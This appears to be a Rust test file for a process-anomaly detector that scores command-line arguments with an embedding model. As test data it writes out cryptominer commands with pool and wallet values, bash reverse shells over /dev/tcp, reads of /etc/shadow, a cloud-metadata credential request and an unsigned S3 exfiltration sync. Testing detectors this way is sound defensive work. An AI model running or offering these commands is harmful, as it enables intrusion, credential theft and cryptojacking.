//! Tests against the real default model (all-MiniLM-L6-v2 int8) and ONNX Runtime.
//!
//! The files come from `$KESTREL_MODEL_DIR` (default /var/cache/kestrel/models,
//! filled by `scripts/fetch-model.sh`). When they are missing the tests print
//! a skip message, except with `CI=true`, where they fail.

use std::path::{Path, PathBuf};
use std::sync::{Arc, OnceLock};

use kestrel_embed::{
    arg_similarity, cosine, default_threshold, normalize, ArgComparison, ArgShape, Embedder,
    Pooling, DEFAULT_MODEL_ID,
};
use kestrel_embed_onnx::{
    holdout2_pairs, tuning_pairs, ArgEmbedder, CacheOptions, EmbedConfig, LabelledPair,
    OnnxEmbedder,
};

/// The default model's config, or `None` (with a message) when its files are
/// missing outside CI. Panics in CI when they are missing.
fn model_config() -> Option<EmbedConfig> {
    let config = EmbedConfig::from_env();
    match config.check_files() {
        Ok(()) => Some(config),
        Err(e) if std::env::var("CI").is_ok_and(|v| v == "true") => {
            panic!("CI=true but the embedding model is not installed: {e}")
        }
        Err(e) => {
            eprintln!("SKIPPED: real-model test: {e}");
            None
        }
    }
}

/// One loaded model shared by the tests of this binary.
fn model() -> Option<Arc<OnnxEmbedder>> {
    static MODEL: OnceLock<Option<Arc<OnnxEmbedder>>> = OnceLock::new();
    MODEL
        .get_or_init(|| {
            model_config()
                .map(|c| Arc::new(OnnxEmbedder::load(c).expect("the installed model loads")))
        })
        .clone()
}

fn embed_one(model: &OnnxEmbedder, text: &str) -> Vec<f32> {
    model.embed_batch(&[text]).expect("embeds").remove(0)
}

/// What a profile computes for two command lines of one program: the argument
/// similarity of the normalised arguments after `argv[0]`.
fn similarity(model: &OnnxEmbedder, a: &str, b: &str) -> f32 {
    let pair = LabelledPair {
        same: true,
        family: String::new(),
        a: a.into(),
        b: b.into(),
    };
    let (a, b) = pair.arguments();
    let (a, b) = (normalize(a), normalize(b));
    let c = cosine(&embed_one(model, &a), &embed_one(model, &b));
    arg_similarity(c, &ArgShape::of(&a), &ArgShape::of(&b))
}

fn explain(model: &OnnxEmbedder, p: &LabelledPair) -> String {
    let (a, b) = p.arguments();
    let (a, b) = (normalize(a), normalize(b));
    let c = cosine(&embed_one(model, &a), &embed_one(model, &b));
    format!(
        "{} [{}] {}: {a} | {b}",
        if p.same { "same" } else { "diff" },
        p.family,
        ArgComparison::new(&a, &b, c)
    )
}

/// Checks that every pair of `pairs` falls on its labelled side of the shipped
/// threshold, except those whose second command line starts with one of
/// `known_errors` (which must still be on the wrong side, so that the list
/// stays true), and that every correctly classified pair is at least `margin`
/// from the threshold.
fn assert_sides(model: &OnnxEmbedder, pairs: &[LabelledPair], known_errors: &[&str], margin: f32) {
    let threshold = default_threshold(DEFAULT_MODEL_ID).expect("calibrated");
    let (mut unexpected, mut fixed) = (Vec::new(), Vec::new());
    let mut nearest = (f32::MAX, String::new());
    for p in pairs {
        let s = similarity(model, &p.a, &p.b);
        let wrong = (s >= threshold) != p.same;
        let known = known_errors.iter().any(|k| p.b.starts_with(k));
        match (wrong, known) {
            (true, false) => unexpected.push(explain(model, p)),
            (false, true) => fixed.push(explain(model, p)),
            (true, true) => {}
            (false, false) => {
                if (s - threshold).abs() < nearest.0 {
                    nearest = ((s - threshold).abs(), explain(model, p));
                }
            }
        }
    }
    assert!(
        unexpected.is_empty(),
        "newly misclassified: {unexpected:#?}"
    );
    assert!(
        fixed.is_empty(),
        "documented errors now classified correctly (update the list and docs): {fixed:#?}"
    );
    assert!(
        nearest.0 >= margin,
        "a correctly classified pair is within {} of the threshold {threshold}: {}",
        nearest.0,
        nearest.1
    );
}

const SEED_A: &str = "java -jar app.jar --timestamp=12345";
const SEED_B: &str = "java -jar app.jar --timestamp=99999";
const RENAMED_MINER: &str =
    "java -o stratum+tcp://pool.minexmr.com:4444 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -p worker1 --donate-level 1";

#[test]
fn the_seed_java_timestamp_pair_matches_and_the_renamed_miner_does_not() {
    let Some(model) = model() else { return };
    let threshold = default_threshold(DEFAULT_MODEL_ID).expect("calibrated");
    let same = similarity(&model, SEED_A, SEED_B);
    let miner = similarity(&model, SEED_A, RENAMED_MINER);
    assert!(
        same >= threshold + 0.1,
        "java/java' {same} vs threshold {threshold}"
    );
    assert!(
        miner <= threshold - 0.1,
        "java/miner {miner} vs threshold {threshold}"
    );
    // Without normalisation the model alone scores the pair ≈ 0.88 (as measured before).
    let raw = cosine(&embed_one(&model, SEED_A), &embed_one(&model, SEED_B));
    assert!((0.85..0.91).contains(&raw), "raw java/java' {raw}");
}

/// The anomaly shapes the engine gives, with the real model at its shipped
/// threshold: one miner pointed at other pools with other wallets, or one
/// reverse shell to other addresses, is one bucket; a miner and a credential
/// read under the same key are two.
#[test]
fn anomaly_buckets_group_one_technique_and_separate_two() {
    use kestrel_profile::{AnomalyBuckets, Profile, ProfileConfig};
    let Some(model) = model() else { return };
    let threshold = default_threshold(DEFAULT_MODEL_ID).expect("calibrated");
    let cfg = ProfileConfig::builder()
        .similarity_threshold(threshold)
        .build()
        .unwrap();
    let p = Profile::new(cfg, model.model_id(), std::time::Duration::ZERO).unwrap();
    let mut b = AnomalyBuckets::new();
    let mut bucket = |key: &str, args: &str| {
        p.anomaly_bucket(
            &mut b,
            key,
            &normalize(args),
            model.as_ref(),
            std::time::Duration::ZERO,
        )
        .unwrap()
    };
    let miner = "web:1/sh/xmrig/unknown_process";
    let m1 = bucket(miner, "-o stratum+tcp://pool.minexmr.com:4444 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -p worker1 --donate-level 1");
    let m2 = bucket(miner, "-o stratum+tcp://xmr.2miners.com:2222 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD -p rig-b --donate-level 1");
    assert_eq!(m1, m2, "one miner, two pools and wallets");
    let shell = "web:1/sh/bash/unknown_process";
    let s1 = bucket(shell, "-c bash -i >& /dev/tcp/10.0.0.5/4444 0>&1");
    let s2 = bucket(shell, "-c bash -i >& /dev/tcp/203.0.113.77/9001 0>&1");
    assert_eq!(s1, s2, "one reverse shell, two listeners");
    let other = bucket(miner, "/etc/shadow");
    assert_ne!(other, m1, "a miner and a credential read");
    let s3 = bucket(shell, "-c cat /etc/shadow");
    assert_ne!(s3, s1, "a reverse shell and a credential read");
}

/// The one tuning pair (of 163: `pairs.tsv` and `holdout.tsv`) on the wrong
/// side of the threshold (docs/embeddings.md): Celery `beat` instead of
/// `worker`, one changed subcommand word, lexically like `pool www` →
/// `pool api` of a same-behaviour pair. Every other pair, same or different,
/// is on its side with the margin below.
const KNOWN_MISSED: [&str; 1] = ["python -m celery -A proj beat --loglevel=info"];

#[test]
fn the_tuning_set_falls_on_the_documented_sides_of_the_threshold() {
    let Some(model) = model() else { return };
    let pairs = tuning_pairs().expect("parses");
    assert_eq!(pairs.len(), 163);
    // Measured: 0.071 (the threshold is the middle of that gap).
    assert_sides(&model, &pairs, &KNOWN_MISSED, 0.06);
}

/// Pairs of the held-out set (`holdout2.tsv`) on the wrong side of the
/// threshold, measured once when the measure and threshold were fixed
/// (docs/embeddings.md): six changed subcommands or switches (`downgrade`,
/// `config set registry`, `actuator/shutdown`, `--api.insecure`, `db:drop`,
/// `jmxremote` inside a dotted property name, which the sensitive-word cue
/// does not split), a bucket swapped for an unsigned foreign one, and one
/// same-behaviour pair written with long instead of short flags.
const HELD_OUT_MISSED: [&str; 8] = [
    "java -jar /app/billing.jar --server.port=8080 -Dcom.sun.management.jmxremote.port=9010",
    "python3 -m alembic downgrade base",
    "node /usr/local/bin/npm config set registry",
    "curl -s -X POST http://localhost:8080/actuator/shutdown",
    "traefik --api.insecure=true",
    "bundle exec rake db:drop",
    "php-fpm --nodaemonize --allow-to-run-as-root",
    "aws s3 sync /data s3://drop-198-51-100-5/x/ --no-sign-request",
];

#[test]
fn the_held_out_set_falls_on_the_documented_sides_of_the_tuned_threshold() {
    let Some(model) = model() else { return };
    let pairs = holdout2_pairs().expect("parses");
    // Measured: 0.012 (nothing was tuned on this set).
    assert_sides(&model, &pairs, &HELD_OUT_MISSED, 0.01);
}

#[derive(serde::Deserialize)]
struct Reference {
    text: String,
    vector: Vec<f32>,
}

#[derive(serde::Deserialize)]
struct References {
    references: Vec<Reference>,
}

#[test]
fn vectors_match_the_fp32_reference_within_cosine_0_999() {
    let Some(model) = model() else { return };
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/reference.json");
    let text = std::fs::read_to_string(&path).expect("reference.json is committed");
    let refs: References = serde_json::from_str(&text).expect("reference.json parses");
    assert!(refs.references.len() >= 5);
    let inputs: Vec<&str> = refs.references.iter().map(|r| r.text.as_str()).collect();
    let got = model.embed_batch(&inputs).expect("embeds");
    let cosines: Vec<(String, f32)> = refs
        .references
        .iter()
        .zip(&got)
        .map(|(r, v)| (r.text.clone(), cosine(&r.vector, v)))
        .collect();
    eprintln!("cosine to the fp32 reference: {cosines:#?}");
    for (text, c) in &cosines {
        // The empty input is only [CLS] [SEP]: two tokens average no int8
        // rounding away, so it sits further from fp32 (measured 0.9963).
        let bound = if text.is_empty() { 0.99 } else { 0.999 };
        assert!(*c >= bound, "{text:?}: cosine {c} to the reference");
    }
}

#[test]
fn vectors_are_unit_length_deterministic_and_independent_of_batch_padding() {
    let Some(model) = model() else { return };
    let texts = [
        "nginx -g daemon off;",
        SEED_A,
        RENAMED_MINER,
        "node server.js --port <num>",
    ];
    let batch = model.embed_batch(&texts).expect("embeds");
    for (t, v) in texts.iter().zip(&batch) {
        assert_eq!(v.len(), 384);
        let norm: f32 = v.iter().map(|x| x * x).sum::<f32>().sqrt();
        assert!((norm - 1.0).abs() < 1e-4, "norm {norm}");
        let alone = embed_one(&model, t);
        assert!(
            cosine(v, &alone) > 0.9999,
            "{t}: padded and unpadded differ"
        );
        assert_eq!(alone, embed_one(&model, t), "not deterministic");
    }
}

#[test]
fn a_mixed_length_batch_is_split_into_runs_and_answers_in_input_order() {
    let Some(model) = model() else { return };
    // Lengths 2 to 128 tokens: the embedder runs them in several padded runs
    // (near-equal lengths together) and must put each vector back in place.
    let long = "curl -s http://<ipv4>:<num>/latest/meta-data/iam ".repeat(20);
    let texts = [
        long.as_str(),
        "node server.js --port <num>",
        "",
        SEED_A,
        "node server.js --port <num> --inspect",
        RENAMED_MINER,
        "node server.js --port <num>",
        "nginx -g daemon off;",
    ];
    let batch = model.embed_batch_flagged(&texts).expect("embeds");
    assert_eq!(batch.len(), texts.len());
    for (t, e) in texts.iter().zip(&batch) {
        let alone = embed_one(&model, t);
        assert!(
            cosine(&e.vector, &alone) > 0.9999,
            "{t:?}: vector differs from the input's own"
        );
    }
    assert!(batch[0].truncated, "the 128-token input is cut and flagged");
    assert!(batch[1..].iter().all(|e| !e.truncated));
}

#[test]
fn empty_arguments_embed_to_a_unit_vector() {
    let Some(model) = model() else { return };
    let out = model.embed_batch_flagged(&["", "   "]).expect("embeds");
    for e in out {
        assert!(!e.truncated);
        let norm: f32 = e.vector.iter().map(|x| x * x).sum::<f32>().sqrt();
        assert!((norm - 1.0).abs() < 1e-4);
    }
    assert_eq!(normalize(" \t "), "");
}

#[test]
fn a_100_kib_argument_is_truncated_and_flagged() {
    let Some(model) = model() else { return };
    let huge = format!(
        "java -jar app.jar {}",
        "--flag=value ".repeat(100 * 1024 / 13)
    );
    assert!(huge.len() >= 100 * 1024);
    let started = std::time::Instant::now();
    let out = model
        .embed_batch_flagged(&[&huge, "java -jar app.jar"])
        .expect("embeds");
    assert!(out[0].truncated, "the long input is flagged");
    assert!(!out[1].truncated, "the short input is not");
    assert!(
        started.elapsed().as_secs() < 5,
        "took {:?}",
        started.elapsed()
    );
    // Just over the token limit is flagged too (not only the byte cap).
    let words = "alpha ".repeat(130);
    assert!(model.embed_batch_flagged(&[&words]).expect("embeds")[0].truncated);
}

#[test]
fn non_utf8_arguments_are_embedded_lossily() {
    let Some(model) = model() else { return };
    let bytes = b"python \xff\xfe/app/run.py --name=\xc3\x28";
    let embedder = ArgEmbedder::new(model.clone(), CacheOptions::default()).expect("starts");
    let e = embedder.embed_bytes(bytes).expect("embeds");
    assert!(e.key.contains('\u{FFFD}'), "{}", e.key);
    assert_eq!(e.vector.len(), 384);
}

#[test]
fn last_token_and_cls_pooling_run_on_the_default_graph() {
    let Some(config) = model_config() else { return };
    let mean = model().expect("loaded");
    for pooling in [Pooling::LastToken, Pooling::Cls] {
        let other = OnnxEmbedder::load(
            config
                .clone()
                .with_pooling(pooling)
                .with_instruction_prefix("Query: "),
        )
        .expect("loads with another pooling");
        let a = embed_one(&other, SEED_A);
        let b = embed_one(&mean, SEED_A);
        let norm: f32 = a.iter().map(|x| x * x).sum::<f32>().sqrt();
        assert!((norm - 1.0).abs() < 1e-4);
        assert!(
            cosine(&a, &b) < 0.99,
            "{pooling:?} should differ from mean pooling"
        );
        // Last-token pooling must pick each row's own last token, not the padding.
        let batch = other.embed_batch(&[SEED_A, RENAMED_MINER]).expect("embeds");
        assert!(
            cosine(&batch[0], &a) > 0.9999,
            "{pooling:?} depends on padding"
        );
    }
}

#[test]
fn a_configured_dimension_the_model_does_not_have_is_an_error_naming_the_model() {
    let Some(config) = model_config() else { return };
    let err = OnnxEmbedder::load(config.with_model_id("my-768-model").with_dim(768)).unwrap_err();
    assert_eq!(err.label(), "output_shape");
    assert!(err.to_string().contains("my-768-model"), "{err}");
}

#[test]
fn a_corrupt_model_file_is_a_clear_error() {
    let Some(config) = model_config() else { return };
    let dir = scratch_dir("corrupt-model");
    let bad = dir.join("model.onnx");
    std::fs::write(&bad, b"this is not an onnx protobuf").expect("writes");
    let err = OnnxEmbedder::load(config.clone().with_model_path(&bad)).unwrap_err();
    assert_eq!(err.label(), "model", "{err}");
    assert!(err.to_string().contains(DEFAULT_MODEL_ID), "{err}");
    // A truncated copy of the real model fails the same way.
    let real = std::fs::read(&config.model_path).expect("reads");
    std::fs::write(&bad, &real[..real.len() / 2]).expect("writes");
    assert_eq!(
        OnnxEmbedder::load(config.with_model_path(&bad))
            .unwrap_err()
            .label(),
        "model"
    );
}

#[test]
fn a_missing_or_corrupt_tokenizer_is_a_clear_error() {
    let Some(config) = model_config() else { return };
    let dir = scratch_dir("corrupt-tokenizer");
    let missing =
        OnnxEmbedder::load(config.clone().with_tokenizer_path(dir.join("nope.json"))).unwrap_err();
    assert_eq!(missing.label(), "missing_file");
    assert!(missing.to_string().contains("tokenizer"), "{missing}");
    let bad = dir.join("tokenizer.json");
    std::fs::write(&bad, b"{\"not\": \"a tokenizer\"}").expect("writes");
    let err = OnnxEmbedder::load(config.with_tokenizer_path(&bad)).unwrap_err();
    assert_eq!(err.label(), "tokenizer", "{err}");
}

#[test]
fn a_missing_model_file_is_named() {
    let Some(config) = model_config() else { return };
    let err = OnnxEmbedder::load(config.with_model_path("/nonexistent/model.onnx")).unwrap_err();
    assert_eq!(err.label(), "missing_file");
    assert!(
        err.to_string()
            .contains("ONNX model not found at /nonexistent/model.onnx"),
        "{err}"
    );
}

#[test]
fn the_cached_front_end_embeds_a_replayed_stream_mostly_from_cache() {
    let Some(model) = model() else { return };
    let embedder = ArgEmbedder::new(model, CacheOptions::default()).expect("starts");
    for pid in 0..200 {
        let args = format!(
            "java -Dpid={pid} -jar /app/app.jar --timestamp={}",
            1_700_000_000 + pid * 7
        );
        let e = embedder.embed(&args).expect("embeds");
        assert_eq!(e.vector.len(), 384);
    }
    let stats = embedder.stats();
    assert_eq!(stats.misses, 1);
    assert_eq!(stats.hits, 199);
}

fn scratch_dir(name: &str) -> PathBuf {
    let dir =
        std::env::temp_dir().join(format!("kestrel-embed-test-{name}-{}", std::process::id()));
    std::fs::create_dir_all(&dir).expect("creates a scratch folder");
    dir
}
